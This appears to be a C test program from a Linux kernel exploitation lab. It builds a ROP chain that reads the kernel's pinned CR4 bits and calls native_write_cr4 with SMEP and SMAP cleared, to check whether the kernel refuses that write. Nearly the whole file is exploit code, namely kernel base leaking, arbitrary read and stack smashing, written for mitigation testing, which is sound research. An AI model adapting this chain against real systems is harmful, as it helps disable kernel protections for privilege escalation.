// SPDX-License-Identifier: GPL-2.0
/*
 * cr4-write: the core of lab attack e (ROP -> native_write_cr4() clearing
 * SMEP and SMAP), without the ret2usr that would follow: after the call
 * the chain goes back to user space the KPTI-safe way and the program says
 * so.  It tests the refusal of the write itself.  The value written is the
 * kernel's pinned CR4 bits (cr4_pinned_bits, read with the lab's arbitrary
 * read) minus SMEP and SMAP: what an attacker would pick.
 *
 * Usage: cr4-write
 */
#include <stdio.h>
#include <unistd.h>

#include "exp.h"
#include "rop.h"

#define CR4_SMEP	(1ULL << 20)
#define CR4_SMAP	(1ULL << 21)

static void after_rop(void)
{
	printf("[+] back in user space after native_write_cr4\n");
	fflush(stdout);
	_exit(0);
}

int main(void)
{
	struct rop chain;
	uint64_t pinned, value;
	int fd;

	profile_load();
	fd = lab_open();
	leak_kbase(fd);
	arb_init(fd);
	pinned = kread64(ksym("cr4_pinned_bits"));
	arb_restore();
	value = pinned & ~(CR4_SMEP | CR4_SMAP);
	say("cr4_pinned_bits %#llx; calling native_write_cr4(%#llx)",
	    (unsigned long long)pinned, (unsigned long long)value);
	fflush(stdout);

	rop_frame_init(fd);
	rop_save_user_state();
	rop_init(&chain);
	rop_set_rdi(&chain, value);
	rop_call(&chain, ksym("native_write_cr4"));
	rop_ret_to_user(&chain, after_rop);
	rop_smash(fd, &chain);
	return 1;
}
